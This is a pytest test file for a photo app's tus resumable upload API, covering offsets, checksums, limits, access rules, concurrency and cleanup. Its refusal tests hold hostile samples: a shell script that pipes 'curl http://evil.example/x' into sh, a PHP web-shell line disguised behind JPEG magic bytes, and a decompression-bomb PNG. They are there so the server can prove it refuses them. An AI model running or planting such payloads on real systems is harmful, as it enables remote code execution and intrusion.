"""The tus 1.0.0 protocol at /v1/uploads/ (docs/uploads.md), through the app with httpx: discovery, creation,
offsets, checksums, termination, expiration, limits, refusals, concurrency, dropped connections, cleanup."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import itertools
import uuid
from collections.abc import AsyncIterator
from datetime import timedelta
from email.utils import parsedate_to_datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.core.db import utcnow
from app.core.principal import Role
from app.media.cleanup import cleanup_expired_uploads
from app.media.models import Photo, Upload, UploadStatus
from app.media.staging import LEASE_SECONDS
from app.media.storage.local import LocalStorage
from tests.support.factories import Factory
from tests.support.uploads import (
    OCTET,
    TUS,
    b64,
    checksum,
    image_of,
    installed_storage,
    jpeg_with_gps,
    make_team,
    metadata,
    noise_image,
    png_bytes,
    settle,
    settle_background,  # noqa: F401 - autouse: no processing outlives its test
    sha256_hex,
    stored_keys,
    tus_create,
    tus_head,
    tus_patch,
    tus_upload,
)

PROBLEM = "application/problem+json"


@pytest.fixture
async def local_storage(request: pytest.FixtureRequest, app: Any, tmp_path: Path) -> AsyncIterator[LocalStorage]:
    """A fresh local storage for one test (so counting files is exact)."""
    async with installed_storage("local", request, app, tmp_path) as backend:
        assert isinstance(backend, LocalStorage)
        yield backend


async def _upload_row(maker: async_sessionmaker[AsyncSession], location: str) -> Upload:
    upload_id = uuid.UUID(location.rsplit("/", 1)[1])
    async with maker() as s:
        upload = await s.get(Upload, upload_id)
        assert upload is not None
        return upload


# --- discovery and protocol basics ---------------------------------------------------------------------------


async def test_options_discovery(client: httpx.AsyncClient, settings: Any) -> None:
    for path in ("/v1/uploads/", "/v1/uploads", f"/v1/uploads/{uuid.uuid4()}"):
        r = await client.options(path)
        assert r.status_code == 204, (path, r.text)
        assert r.headers["tus-resumable"] == "1.0.0"
        assert r.headers["tus-version"] == "1.0.0"
        assert set(r.headers["tus-extension"].split(",")) == {
            "creation",
            "creation-with-upload",
            "checksum",
            "termination",
            "expiration",
        }
        assert r.headers["tus-max-size"] == str(settings.upload_max_bytes)
        assert set(r.headers["tus-checksum-algorithm"].split(",")) == {"sha1", "sha256"}


async def test_cors_preflight_and_exposed_headers(client: httpx.AsyncClient, factory: Factory) -> None:
    origin = {"Origin": "https://console.ongi.example"}
    r = await client.options(
        f"/v1/uploads/{uuid.uuid4()}",
        headers={
            **origin,
            "Access-Control-Request-Method": "PATCH",
            "Access-Control-Request-Headers": "authorization,content-type,tus-resumable,upload-offset,upload-checksum",
        },
    )
    assert r.status_code == 200, r.text
    assert "PATCH" in r.headers["access-control-allow-methods"]
    allowed = r.headers["access-control-allow-headers"].lower()
    for header in ("tus-resumable", "upload-offset", "upload-checksum", "authorization", "content-type"):
        assert header in allowed
    team = await make_team(factory)
    data = jpeg_with_gps()
    created = await tus_create(client, team.planner, team.visit.id, data, headers=origin)
    assert created.status_code == 201
    exposed = created.headers["access-control-expose-headers"].lower()
    for header in ("location", "upload-offset", "upload-expires", "tus-resumable"):
        assert header in exposed
    head = await client.head(created.headers["location"], headers={**TUS, **team.planner.headers, **origin})
    assert head.headers["access-control-allow-origin"] in ("*", origin["Origin"])
    assert "upload-length" in head.headers["access-control-expose-headers"].lower()


async def test_unsupported_or_missing_version_is_412(client: httpx.AsyncClient, factory: Factory) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    for version in ("0.2.2", None):
        headers = {"Tus-Resumable": version} if version else {"Tus-Resumable": ""}
        r = await tus_create(client, team.planner, team.visit.id, data, headers=headers)
        assert r.status_code == 412, r.text
        assert r.headers["tus-version"] == "1.0.0"
        assert r.headers["tus-resumable"] == "1.0.0"
        assert r.headers["content-type"] == PROBLEM
        assert r.json()["type"].endswith("/tus-version-unsupported")


async def test_no_token_is_401_with_tus_header(client: httpx.AsyncClient) -> None:
    r = await client.post(
        "/v1/uploads/",
        headers={
            **TUS,
            "Upload-Length": "10",
            "Upload-Metadata": metadata(
                {"photo_id": str(uuid.uuid4()), "visit_id": str(uuid.uuid4()), "sha256": "0" * 64}
            ),
        },
    )
    assert r.status_code == 401
    assert r.headers["tus-resumable"] == "1.0.0"
    assert r.headers["content-type"] == PROBLEM


# --- the whole flow ------------------------------------------------------------------------------------------


async def test_interrupted_upload_resumed_at_several_offsets_arrives_whole(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession], local_storage: LocalStorage
) -> None:
    team = await make_team(factory)
    data = png_bytes((160, 120), seed=5)  # lossless: the stored pixels must equal the sent ones
    photo_id = uuid.uuid4()
    created = await tus_create(
        client, team.planner, team.visit.id, data, photo_id=photo_id, extra={"caption": "현관", "item_key": "front"}
    )
    assert created.status_code == 201, created.text
    location = created.headers["location"]
    assert location.startswith("http://testserver/v1/uploads/")
    assert created.headers["upload-offset"] == "0"
    assert created.headers["tus-resumable"] == "1.0.0"

    cuts = [0, 1, 17, 4096, 4097, 30000, len(data) - 1, len(data)]
    for start, end in itertools.pairwise(cuts):
        head = await tus_head(client, team.planner, location)
        assert head.status_code == 200
        assert int(head.headers["upload-offset"]) == start
        assert head.headers["upload-length"] == str(len(data))
        assert head.headers["cache-control"] == "no-store"
        assert head.headers["upload-metadata"] == created.request.headers["upload-metadata"]
        r = await tus_patch(client, team.planner, location, start, data[start:end])
        assert r.status_code == 204, r.text
        assert int(r.headers["upload-offset"]) == end
        if end < len(data):
            # A client that lost the answer and retries the same chunk is told the real offset.
            again = await tus_patch(client, team.planner, location, start, data[start:end])
            assert again.status_code == 409
            assert again.headers["upload-offset"] == str(end)
            assert again.json()["type"].endswith("/upload-offset-mismatch")
            assert again.json()["offset"] == end

    head = await tus_head(client, team.planner, location)
    assert head.headers["upload-offset"] == str(len(data))
    assert "upload-expires" not in head.headers
    assert head.headers["ongi-upload-status"] == "completed"
    row = await _upload_row(maker, location)
    assert row.status == UploadStatus.completed
    assert row.segments == []
    assert await stored_keys(local_storage, f"uploads/{row.id}") == []
    async with maker() as s:
        photo = await s.get(Photo, photo_id)
    assert photo is not None
    assert photo.original_sha256 == sha256_hex(data)
    assert (photo.caption, photo.item_key, photo.household_id) == ("현관", "front", team.household.id)
    content = await client.get(f"/v1/photos/{photo_id}/content", headers=team.planner.headers)
    assert content.status_code == 200
    assert image_of(content.content).tobytes() == image_of(data).convert("RGB").tobytes()


async def test_creation_with_upload(client: httpx.AsyncClient, factory: Factory) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    partial = await tus_create(client, team.planner, team.visit.id, data, body=data[:100])
    assert partial.status_code == 201, partial.text
    assert partial.headers["upload-offset"] == "100"
    assert parsedate_to_datetime(partial.headers["upload-expires"]) > utcnow()
    rest = await tus_patch(client, team.planner, partial.headers["location"], 100, data[100:])
    assert rest.status_code == 204

    photo_id = uuid.uuid4()
    whole = await tus_create(client, team.planner, team.visit.id, data, photo_id=photo_id, body=data)
    assert whole.status_code == 201, whole.text
    assert whole.headers["upload-offset"] == str(len(data))
    r = await client.get(f"/v1/photos/{photo_id}", headers=team.planner.headers)
    assert r.status_code == 200


async def test_expiration_header_and_expired_upload(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession], settings: Any
) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    created = await tus_create(client, team.planner, team.visit.id, data)
    expires = parsedate_to_datetime(created.headers["upload-expires"])
    assert created.headers["upload-expires"].endswith(" GMT")
    expected = utcnow() + timedelta(hours=settings.upload_expiry_hours)
    assert abs((expires - expected).total_seconds()) < 60
    location = created.headers["location"]
    row = await _upload_row(maker, location)
    async with maker() as s:
        await s.execute(update(Upload).where(Upload.id == row.id).values(expires_at=utcnow() - timedelta(seconds=1)))
        await s.commit()
    assert (await tus_head(client, team.planner, location)).status_code == 410  # HEAD: no body
    r = await tus_patch(client, team.planner, location, 0, data)
    assert r.status_code == 410, r.text
    assert r.json()["type"].endswith("/upload-gone")


async def test_method_override_for_clients_without_patch(client: httpx.AsyncClient, factory: Factory) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    r = await client.post(
        location,
        headers={**TUS, **OCTET, **team.planner.headers, "Upload-Offset": "0", "X-HTTP-Method-Override": "PATCH"},
        content=data,
    )
    assert r.status_code == 204, r.text
    assert r.headers["upload-offset"] == str(len(data))
    await settle(client)
    bogus = await client.post(location, headers={**TUS, **team.planner.headers})
    assert bogus.status_code == 405


# --- checksums -----------------------------------------------------------------------------------------------


async def test_checksum_extension(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession], local_storage: LocalStorage
) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps((120, 90))
    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    first, second = data[:1000], data[1000:]

    ok = await tus_patch(client, team.planner, location, 0, first, headers={"Upload-Checksum": checksum(first, "sha1")})
    assert ok.status_code == 204, ok.text
    assert ok.headers["upload-offset"] == "1000"

    wrong = await tus_patch(
        client, team.planner, location, 1000, second, headers={"Upload-Checksum": checksum(b"other", "sha256")}
    )
    assert wrong.status_code == 460, wrong.text
    assert wrong.headers["content-type"] == PROBLEM
    assert wrong.json()["type"].endswith("/checksum-mismatch")
    assert wrong.headers["tus-resumable"] == "1.0.0"
    head = await tus_head(client, team.planner, location)
    assert head.headers["upload-offset"] == "1000"  # discarded, offset unchanged
    row = await _upload_row(maker, location)
    assert [s["size"] for s in row.segments] == [1000]
    assert len(await stored_keys(local_storage, f"uploads/{row.id}")) == 1

    for bad in ("md5 " + base64.b64encode(hashlib.md5(second).digest()).decode(), "sha256 not-base64!", "sha256"):  # noqa: S324
        r = await tus_patch(client, team.planner, location, 1000, second, headers={"Upload-Checksum": bad})
        assert r.status_code == 400, (bad, r.text)
    assert (await tus_head(client, team.planner, location)).headers["upload-offset"] == "1000"

    done = await tus_patch(
        client, team.planner, location, 1000, second, headers={"Upload-Checksum": checksum(second, "sha256")}
    )
    assert done.status_code == 204, done.text
    assert done.headers["upload-offset"] == str(len(data))


async def test_sha256_metadata_in_hex_or_base64(client: httpx.AsyncClient, factory: Factory) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    digest = hashlib.sha256(data).digest()
    for given in (digest.hex().upper(), base64.b64encode(digest).decode(), base64.urlsafe_b64encode(digest).decode()):
        created = await tus_create(client, team.planner, team.visit.id, data, sha256=given)
        assert created.status_code == 201, created.text
        r = await tus_patch(client, team.planner, created.headers["location"], 0, data)
        assert r.status_code == 204, r.text


# --- refusals ------------------------------------------------------------------------------------------------


async def test_whole_file_hash_mismatch_fails_the_upload(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession], local_storage: LocalStorage
) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    photo_id = uuid.uuid4()
    created = await tus_create(client, team.planner, team.visit.id, data, photo_id=photo_id, sha256="ab" * 32)
    location = created.headers["location"]
    r = await tus_patch(client, team.planner, location, 0, data)
    assert r.status_code == 460, r.text
    body = r.json()
    assert body["type"].endswith("/upload-hash-mismatch")
    assert "sha256" in body["detail"]
    row = await _upload_row(maker, location)
    assert (row.status, row.failure) == (UploadStatus.failed, "upload-hash-mismatch")
    assert await stored_keys(local_storage, "uploads/") == []
    assert await stored_keys(local_storage, "photos/") == []
    assert (await tus_head(client, team.planner, location)).status_code == 410
    async with maker() as s:
        assert await s.get(Photo, photo_id) is None


async def test_disguised_and_unsupported_files_are_refused(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession], local_storage: LocalStorage
) -> None:
    team = await make_team(factory)
    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n" * 50
    gif = b"GIF89a" + b"\x00" * 200
    for data in (script, gif):
        created = await tus_create(
            client, team.planner, team.visit.id, data, extra={"filename": "집앞.jpg", "filetype": "image/jpeg"}
        )
        location = created.headers["location"]
        # Refused on the first bytes: the rest is never accepted.
        r = await tus_patch(client, team.planner, location, 0, data[:100])
        assert r.status_code == 415, r.text
        assert r.json()["type"].endswith("/unsupported-image-type")
        row = await _upload_row(maker, location)
        assert (row.status, row.failure) == (UploadStatus.failed, "unsupported-image-type")
        assert (await tus_patch(client, team.planner, location, 0, data)).status_code == 410

    # JPEG magic, then garbage: accepted (hash and magic bytes hold), then refused when the picture does
    # not decode; the phone reads that from HEAD.
    fake = b"\xff\xd8\xff\xe0" + b"<?php system($_GET['c']); ?>" * 40
    created = await tus_create(client, team.planner, team.visit.id, fake)
    location = created.headers["location"]
    r = await tus_patch(client, team.planner, location, 0, fake)
    assert r.status_code == 204, r.text
    head = await tus_head(client, team.planner, location)
    assert head.status_code == 410
    assert head.headers["ongi-upload-status"] == "failed"
    assert head.headers["ongi-upload-failure"] == "image-unreadable"
    assert (await _upload_row(maker, location)).failure == "image-unreadable"
    assert await stored_keys(local_storage, "photos/") == []
    assert await stored_keys(local_storage, "uploads/") == []


async def test_size_limits(client: httpx.AsyncClient, factory: Factory, settings: Any) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    too_big = await client.post(
        "/v1/uploads/",
        headers={
            **TUS,
            **team.planner.headers,
            "Upload-Length": str(settings.upload_max_bytes + 1),
            "Upload-Metadata": metadata(
                {"photo_id": str(uuid.uuid4()), "visit_id": str(team.visit.id), "sha256": "0" * 64}
            ),
        },
    )
    assert too_big.status_code == 413, too_big.text
    assert too_big.json()["type"].endswith("/payload-too-large")
    assert too_big.json()["limit"] == settings.upload_max_bytes

    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    beyond = await tus_patch(client, team.planner, location, 0, data + b"extra")
    assert beyond.status_code == 413, beyond.text

    async def chunked() -> Any:
        yield data
        yield b"more than announced"

    streamed = await tus_patch(client, team.planner, location, 0, chunked())
    assert streamed.status_code == 413, streamed.text
    assert (await tus_head(client, team.planner, location)).headers["upload-offset"] == "0"
    ok = await tus_patch(client, team.planner, location, 0, data)
    assert ok.status_code == 204


async def test_bad_requests(client: httpx.AsyncClient, factory: Factory) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    base = {**TUS, **team.planner.headers}
    good_meta = {"photo_id": str(uuid.uuid4()), "visit_id": str(team.visit.id), "sha256": sha256_hex(data)}

    missing_length = await client.post("/v1/uploads/", headers={**base, "Upload-Metadata": metadata(good_meta)})
    assert missing_length.status_code == 400
    assert missing_length.json()["header"] == "Upload-Length"
    deferred = await client.post(
        "/v1/uploads/", headers={**base, "Upload-Defer-Length": "1", "Upload-Metadata": metadata(good_meta)}
    )
    assert deferred.status_code == 400
    negative = await client.post(
        "/v1/uploads/", headers={**base, "Upload-Length": "-5", "Upload-Metadata": metadata(good_meta)}
    )
    assert negative.status_code == 400
    broken = await client.post(
        "/v1/uploads/", headers={**base, "Upload-Length": "10", "Upload-Metadata": "photo_id %%%notbase64"}
    )
    assert broken.status_code == 400
    assert broken.json()["type"].endswith("/bad-request")

    invalid = await client.post(
        "/v1/uploads/",
        headers={
            **base,
            "Upload-Length": str(len(data)),
            "Upload-Metadata": f"photo_id {b64('not-a-uuid')},sha256 {b64('xyz')},taken_at {b64('yesterday')}",
        },
    )
    assert invalid.status_code == 422, invalid.text
    fields = {e["field"] for e in invalid.json()["errors"]}
    assert {
        "Upload-Metadata.photo_id",
        "Upload-Metadata.visit_id",
        "Upload-Metadata.sha256",
        "Upload-Metadata.taken_at",
    } <= fields

    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    wrong_type = await client.patch(
        location, headers={**base, "Content-Type": "image/jpeg", "Upload-Offset": "0"}, content=data
    )
    assert wrong_type.status_code == 415
    no_offset = await client.patch(location, headers={**base, **OCTET}, content=data)
    assert no_offset.status_code == 400
    assert no_offset.json()["header"] == "Upload-Offset"
    assert (await client.head(f"/v1/uploads/{uuid.uuid4()}", headers=base)).status_code == 404
    assert (await client.head("/v1/uploads/not-an-id", headers=base)).status_code == 404


# --- access --------------------------------------------------------------------------------------------------


async def test_only_the_team_creates_and_only_the_uploader_continues(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    for outsider in (team.coordinator, team.planner_unassigned, team.planner_elsewhere, team.partner_unassigned):
        r = await tus_create(client, outsider, team.visit.id, data)
        assert r.status_code == 404, r.text
        assert r.headers["tus-resumable"] == "1.0.0"
    reporter = await factory.actor(Role.reporter)
    assert (await tus_create(client, reporter, team.visit.id, data)).status_code == 404
    assert (await tus_create(client, team.planner, uuid.uuid4(), data)).status_code == 404

    # A partner of the team without consent sees the restricted visit only: no photo of the home (issue 13,
    # item 4), the same 404 as its notes and checklists; the consented partner uploads.
    assert (await tus_create(client, team.partner_no_consent, team.visit.id, data)).status_code == 404
    assert (await tus_create(client, team.partner, team.visit.id, data)).status_code == 201

    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    for other in (team.partner, team.coordinator, team.planner_unassigned):
        assert (await tus_head(client, other, location)).status_code == 404
        assert (await tus_patch(client, other, location, 0, data)).status_code == 404
        assert (await client.delete(location, headers={**TUS, **other.headers})).status_code == 404
    assert (await tus_head(client, team.planner, location)).headers["upload-offset"] == "0"


async def test_uploader_removed_from_the_team_cannot_continue(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession]
) -> None:
    from app.visits.models import VisitAssignee

    team = await make_team(factory)
    data = jpeg_with_gps()
    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    async with maker() as s:
        await s.execute(
            update(VisitAssignee)
            .where(VisitAssignee.visit_id == team.visit.id, VisitAssignee.user_id == team.planner.id)
            .values(ended_at=utcnow())
        )
        await s.commit()
    assert (await tus_patch(client, team.planner, location, 0, data)).status_code == 404


# --- termination ---------------------------------------------------------------------------------------------


async def test_termination(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession], local_storage: LocalStorage
) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    assert (await tus_patch(client, team.planner, location, 0, data[:500])).status_code == 204
    row = await _upload_row(maker, location)
    assert len(await stored_keys(local_storage, f"uploads/{row.id}")) == 1
    r = await client.delete(location, headers={**TUS, **team.planner.headers})
    assert r.status_code == 204
    assert r.headers["tus-resumable"] == "1.0.0"
    assert await stored_keys(local_storage, f"uploads/{row.id}") == []
    assert (await _upload_row(maker, location)).status == UploadStatus.terminated
    assert (await tus_head(client, team.planner, location)).status_code == 410
    assert (await tus_patch(client, team.planner, location, 500, data[500:])).status_code == 410
    assert (await client.delete(location, headers={**TUS, **team.planner.headers})).status_code == 204

    # Terminating a completed upload leaves its photo alone.
    done = await tus_upload(client, team.planner, team.visit.id, data)
    assert (await client.delete(done.location, headers={**TUS, **team.planner.headers})).status_code == 204
    assert (await client.get(f"/v1/photos/{done.photo_id}", headers=team.planner.headers)).status_code == 200


# --- concurrency and dropped connections ---------------------------------------------------------------------


async def test_concurrent_patches_are_refused_cleanly(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession]
) -> None:
    team = await make_team(factory)
    data = png_bytes((200, 150), seed=9)
    photo_id = uuid.uuid4()
    location = (await tus_create(client, team.planner, team.visit.id, data, photo_id=photo_id)).headers["location"]
    half = len(data) // 2
    started, release = asyncio.Event(), asyncio.Event()

    async def slow_body() -> Any:
        yield data[:1000]
        started.set()
        await release.wait()
        yield data[1000:half]

    first = asyncio.create_task(tus_patch(client, team.planner, location, 0, slow_body()))
    await asyncio.wait_for(started.wait(), 10)
    # While the first PATCH streams, a second one on the same upload is refused (and so is termination).
    second = await tus_patch(client, team.planner, location, 0, data[:half])
    assert second.status_code == 409, second.text
    assert second.json()["type"].endswith("/upload-busy")
    assert second.headers["tus-resumable"] == "1.0.0"
    assert (await client.delete(location, headers={**TUS, **team.planner.headers})).status_code == 409
    assert (await tus_head(client, team.planner, location)).headers["upload-offset"] == "0"
    release.set()
    r = await asyncio.wait_for(first, 10)
    assert r.status_code == 204, r.text
    assert r.headers["upload-offset"] == str(half)
    r = await tus_patch(client, team.planner, location, half, data[half:])
    assert r.status_code == 204, r.text
    async with maker() as s:
        photo = await s.get(Photo, photo_id)
    assert photo is not None
    assert photo.original_sha256 == sha256_hex(data)


async def test_a_crashed_requests_lease_expires(
    client: httpx.AsyncClient, factory: Factory, maker: async_sessionmaker[AsyncSession]
) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps()
    location = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    row = await _upload_row(maker, location)
    # A request took the lease and died (the process crashed): the lease blocks only until it expires.
    async with maker() as s:
        await s.execute(
            update(Upload)
            .where(Upload.id == row.id)
            .values(lease_token=uuid.uuid4(), lease_until=utcnow() + timedelta(seconds=LEASE_SECONDS))
        )
        await s.commit()
    assert (await tus_patch(client, team.planner, location, 0, data)).status_code == 409
    async with maker() as s:
        await s.execute(update(Upload).where(Upload.id == row.id).values(lease_until=utcnow() - timedelta(seconds=1)))
        await s.commit()
    assert (await tus_patch(client, team.planner, location, 0, data)).status_code == 204


async def _raw_patch(app: Any, headers: dict[str, str], path: str, chunks: list[bytes]) -> list[dict[str, Any]]:
    """Call the app with a PATCH whose client sends ``chunks`` and then drops the connection."""
    queue = [{"type": "http.request", "body": c, "more_body": True} for c in chunks]
    queue.append({"type": "http.disconnect"})
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        if queue:
            return queue.pop(0)
        await asyncio.sleep(3600)  # pragma: no cover - never asked again after a disconnect
        raise AssertionError

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "PATCH",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()] + [(b"host", b"testserver")],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    await app(scope, receive, send)
    return sent


async def test_dropped_connection_keeps_what_arrived(
    client: httpx.AsyncClient, app: Any, factory: Factory, maker: async_sessionmaker[AsyncSession]
) -> None:
    team = await make_team(factory)
    image = noise_image((300, 200), 21)
    import io

    buf = io.BytesIO()
    image.save(buf, "PNG")
    data = buf.getvalue()
    photo_id = uuid.uuid4()
    location = (await tus_create(client, team.planner, team.visit.id, data, photo_id=photo_id)).headers["location"]
    path = "/v1/uploads/" + location.rsplit("/", 1)[1]
    headers = {**TUS, **OCTET, **team.planner.headers, "Upload-Offset": "0", "Content-Length": str(len(data))}
    # The phone sends 70 000 bytes in pieces, then the network drops.
    await _raw_patch(app, headers, path, [data[:30000], data[30000:70000]])
    head = await tus_head(client, team.planner, location)
    assert head.headers["upload-offset"] == "70000"
    # Again from there, another drop after 1 byte, then the rest.
    headers |= {"Upload-Offset": "70000", "Content-Length": str(len(data) - 70000)}
    await _raw_patch(app, headers, path, [data[70000:70001]])
    assert (await tus_head(client, team.planner, location)).headers["upload-offset"] == "70001"
    r = await tus_patch(client, team.planner, location, 70001, data[70001:])
    assert r.status_code == 204, r.text
    async with maker() as s:
        photo = await s.get(Photo, photo_id)
    assert photo is not None
    assert photo.original_sha256 == sha256_hex(data)
    content = await client.get(f"/v1/photos/{photo_id}/content", headers=team.planner.headers)
    assert image_of(content.content).tobytes() == image.tobytes()

    # A drop during a PATCH that carries Upload-Checksum: the partial chunk cannot be verified, so it is dropped.
    other = await tus_create(client, team.planner, team.visit.id, data)
    path = "/v1/uploads/" + other.headers["location"].rsplit("/", 1)[1]
    headers = {**headers, "Upload-Offset": "0", "Content-Length": str(len(data)), "Upload-Checksum": checksum(data)}
    await _raw_patch(app, headers, path, [data[:5000]])
    assert (await tus_head(client, team.planner, other.headers["location"])).headers["upload-offset"] == "0"


# --- cleanup -------------------------------------------------------------------------------------------------


async def test_cleanup_expired_uploads(
    client: httpx.AsyncClient,
    factory: Factory,
    app: Any,
    maker: async_sessionmaker[AsyncSession],
    local_storage: LocalStorage,
) -> None:
    team = await make_team(factory)
    data = jpeg_with_gps((80, 60))
    stale = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    fresh = (await tus_create(client, team.planner, team.visit.id, data)).headers["location"]
    for location in (stale, fresh):
        assert (await tus_patch(client, team.planner, location, 0, data[:300])).status_code == 204
    stale_row = await _upload_row(maker, stale)
    fresh_row = await _upload_row(maker, fresh)
    async with maker() as s:
        await s.execute(
            update(Upload).where(Upload.id == stale_row.id).values(expires_at=utcnow() - timedelta(minutes=1))
        )
        await s.commit()

    # An upload whose completion was interrupted by a crash: all bytes staged, status processing, lease expired.
    photo_id = uuid.uuid4()
    crashed = (await tus_create(client, team.planner, team.visit.id, data, photo_id=photo_id)).headers["location"]
    crashed_row = await _upload_row(maker, crashed)

    async def one() -> Any:
        yield data

    key = f"uploads/{crashed_row.id}/000000000000-crashed"
    await local_storage.put_stream(key, one())
    async with maker() as s:
        await s.execute(
            update(Upload)
            .where(Upload.id == crashed_row.id)
            .values(
                status=UploadStatus.processing,
                offset_bytes=len(data),
                segments=[{"key": key, "offset": 0, "size": len(data)}],
                lease_token=uuid.uuid4(),
                lease_until=utcnow() - timedelta(seconds=1),
            )
        )
        await s.commit()

    cleaned = await cleanup_expired_uploads(app.state.ongi)
    assert cleaned >= 2
    assert (await _upload_row(maker, stale)).status == UploadStatus.expired
    assert await stored_keys(local_storage, f"uploads/{stale_row.id}") == []
    assert (await tus_head(client, team.planner, stale)).status_code == 410
    assert (await _upload_row(maker, fresh)).status == UploadStatus.open
    assert len(await stored_keys(local_storage, f"uploads/{fresh_row.id}")) == 1
    assert (await _upload_row(maker, crashed)).status == UploadStatus.completed
    assert await stored_keys(local_storage, f"uploads/{crashed_row.id}") == []
    async with maker() as s:
        photo = (await s.execute(select(Photo).where(Photo.id == photo_id))).scalar_one()
    assert photo.uploaded_by_id == team.planner.id
    # Nothing left to do the second time for these.
    await cleanup_expired_uploads(app.state.ongi)
    assert (await _upload_row(maker, fresh)).status == UploadStatus.open


async def test_too_many_pixels_is_refused_before_decoding(
    client: httpx.AsyncClient, factory: Factory, local_storage: LocalStorage
) -> None:
    """A small file that would decode into a huge picture (a decompression bomb) is refused."""
    import io

    from app.media.images import MAX_PIXELS

    team = await make_team(factory)
    buf = io.BytesIO()
    Image.new("1", (9500, MAX_PIXELS // 9500 + 10)).save(buf, "PNG")  # just over the limit, a few KiB
    data = buf.getvalue()
    assert len(data) < 200_000
    created = await tus_create(client, team.planner, team.visit.id, data)
    location = created.headers["location"]
    r = await tus_patch(client, team.planner, location, 0, data)
    assert r.status_code == 204, r.text  # refused when processed, after the answer
    head = await tus_head(client, team.planner, location)
    assert (head.status_code, head.headers["ongi-upload-failure"]) == (410, "image-too-large")
    assert await stored_keys(local_storage, "photos/") == []
